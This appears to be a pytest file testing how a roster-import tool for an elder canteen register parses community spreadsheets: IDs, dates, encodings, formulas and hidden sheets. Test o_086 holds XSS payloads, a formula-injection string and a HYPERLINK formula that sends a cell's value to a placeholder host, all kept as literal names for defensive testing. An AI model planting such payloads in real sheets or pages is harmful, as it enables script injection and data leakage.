"""What `canteen roster import` reads in files as communities send them: the field cases, by their files."""

from datetime import UTC, datetime

import pytest

from canteen.rules.elders import age_on
from tests.cli.conftest import Installation
from tests.cli.rosters import (
    P02,
    apply_roster,
    cards_of,
    elders_of,
    facts_of,
    import_roster,
    items_of,
    phone_of,
)
from tests.files.sheets import workbook


def test_o_039_a_birth_date_without_midnight_is_that_date(empty_register: Installation) -> None:
    for number, cell in enumerate(["1946-05-15", "1946/5/15", None]):
        path = empty_register.folder / f"born{number}.xlsx"
        path.write_bytes(
            workbook([["姓名", "身份证号", "出生日期"], ["秦无夜", "450702194605159894", cell]])
        )
        apply_roster(empty_register, path)
    assert ("born", "1946-05-15", True) in facts_of(empty_register, "秦无夜")
    born = datetime(1946, 5, 15, tzinfo=UTC).date()
    assert age_on(born, datetime(2026, 5, 14, tzinfo=UTC).date()) == 79
    assert age_on(born, datetime(2026, 5, 15, tzinfo=UTC).date()) == 80


def test_o_041_small_x_and_wrong_numbers_each_with_its_own_reason(
    empty_register: Installation,
) -> None:
    apply_roster(empty_register, "00_base_roster.xlsx")
    answer = apply_roster(empty_register, "15_roster_id_kinds.xlsx")
    assert items_of(answer, "refuse") == {
        5: "id_check_digit",
        6: "id_characters",
        7: "id_future",
    }
    assert items_of(answer, "same") == {4: "cleaned"}
    elder = elders_of(empty_register)["莫有福"]
    assert elder.id_number_box is not None
    opened = empty_register.key_ring.open(elder.id_number_box, f"elders:{elder.number}:id_number")
    assert opened == "45070219560229995X"
    told = str(answer)
    assert "450702194105039918" not in told


def test_o_042_residence_permits_are_as_good(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "15_roster_id_kinds.xlsx")
    assert [item["born"] for item in answer["items"][:2]] == ["1943-06-18", "1943-06-18"]
    assert ("residence", "450702003001", True) in facts_of(empty_register, "林台生")
    assert not any(kind == "hukou" for kind, _, _ in facts_of(empty_register, "林台生"))


def test_o_043_lunar_birthdays_are_never_read_as_solar(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "14_roster_lunar_birthdays.xlsx")
    assert [item["born"] for item in answer["items"]] == ["1941-08-07", "1944-10-03", "1941-05-03"]
    assert {item["code"] for item in answer["items"]} == {"date_lunar"}
    assert answer["add"] == 3


def test_o_044_rare_characters_stay_whole(empty_register: Installation) -> None:
    assert apply_roster(empty_register, "07_roster_gb18030.csv")["add"] == 5
    assert {"梁𠮷祥", "韦㐆明", "刘䶮"} <= set(elders_of(empty_register))


def test_o_047_an_id_in_a_number_cell_is_never_used(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "01_roster_long_ids_numeric.xlsx")
    assert items_of(answer, "refuse") == {2: "id_is_number", 4: "id_is_number"}
    texts = {item["row"]: item["zh"] for item in answer["items"]}
    assert texts[2] == "D2 是数字格式，身份证号已丢失末三位，请改为文本"
    assert texts[4] == "D4 是数字格式，身份证号已丢失末三位，请改为文本"
    assert set(items_of(answer, "add")) == {3, 5, 6}
    assert phone_of(empty_register, "莫有福") == "13800000008"


def test_o_048_full_width_digits_and_odd_blanks_are_cleaned(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "02_roster_fullwidth_spaces.xlsx")
    assert answer["add"] == 5
    assert set(elders_of(empty_register)) == {"黄桂兰", "韦德胜", "陆秀珍", "莫有福", "农玉琼"}
    assert [item["code"] for item in answer["items"] if item["name"] == "韦德胜"] == ["name_blanks"]
    assert phone_of(empty_register, "韦德胜") == "13800000002"


def test_o_049_ten_writings_of_one_date(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "03_roster_dates_mixed.xlsx")
    born = {item["row"]: item["born"] for item in answer["items"] if item["action"] == "add"}
    assert born == dict.fromkeys((*range(2, 12), 13), "1941-05-03")
    assert items_of(answer, "refuse") == {12: "date_impossible"}


def test_o_050_title_two_header_rows_example_and_total(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "04_roster_title_merged_header.xlsx")
    assert [(item["row"], item["name"]) for item in answer["items"]] == [
        (6, "黄桂兰"),
        (7, "韦德胜"),
        (8, "陆秀珍"),
        (10, "莫有福"),
        (11, "覃大山"),
    ]
    assert answer["add"] == 5


def test_o_052_a_byte_order_mark_does_not_hide_the_first_column(
    empty_register: Installation,
) -> None:
    assert (
        import_roster(empty_register, "06_roster_utf8_bom.csv", "--community", "城南社区")["add"]
        == 5
    )
    path = empty_register.folder / "first.csv"
    path.write_text(f"身份证号,姓名\n{P02},韦德胜\n", encoding="utf-8-sig")
    answer = apply_roster(empty_register, path)
    assert (answer["columns"], answer["add"]) == ({"身份证号": "id_number", "姓名": "name"}, 1)


def test_o_054_formulas_without_results_and_errors_are_nobody(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "09_roster_formula_no_cache.xlsx")
    assert {item["row"]: item["zh"] for item in answer["items"]} == {
        2: "E2 是公式且没有结果，请粘贴为数值",
        3: "D3 是公式且没有结果，请粘贴为数值",
        4: "D4 是错误值 #N/A，请改正后粘贴为数值",
        5: "B5 是公式且没有结果，请粘贴为数值",
    }
    assert elders_of(empty_register) == {}


def test_o_055_hidden_things_are_said_and_hidden_sheets_left(empty_register: Installation) -> None:
    answer = apply_roster(empty_register, "16_roster_hidden_rows_sheets.xlsx")
    notes = {note["code"]: note["zh"] for note in answer["notes"]}
    assert notes["hidden"] == "含 1 个隐藏行、1 个隐藏列、1 个隐藏工作表（未导入）"
    assert answer["add"] == 5
    assert "去世人员" not in elders_of(empty_register)
    assert cards_of(empty_register, "韦德胜") == ["0011583955"]


def test_o_056_phones_and_cards_as_numbers(street_world: Installation) -> None:
    answer = import_roster(
        street_world, "10_roster_phones_cards_numeric.xlsx", "--apply", user="street"
    )
    assert answer["refuse"] == answer["hold"] == 0
    assert cards_of(street_world, "黄秀英") == ["0000008011"]
    assert cards_of(street_world, "梁𠮷祥") == ["0000781718"]
    assert phone_of(street_world, "黄桂兰") == "13800000001"
    notes = {item["row"]: item["code"] for item in answer["items"]}
    assert notes[4] == "phone_lost_zero"
    assert "guess" in str(answer["items"][2])


@pytest.mark.parametrize("name", ["12_roster_markup_names.csv"])
def test_o_086_o_088_names_that_are_markup_or_formulas_are_kept_as_they_are(
    empty_register: Installation, name: str
) -> None:
    assert apply_roster(empty_register, name)["add"] == 5
    assert {
        "<script>alert(1)</script>",
        '=HYPERLINK("http://example.invalid/?"&D2,"点击")',
        '覃"><img src=x onerror=alert(2)>',
        "@SUM(1+1)*cmd",
        "O'Brien\\黄",
    } == set(elders_of(empty_register))


def test_o_094_a_million_formatted_rows_are_two_people(empty_register: Installation) -> None:
    assert apply_roster(empty_register, "08_roster_blank_formatted_tail.xlsx")["add"] == 2
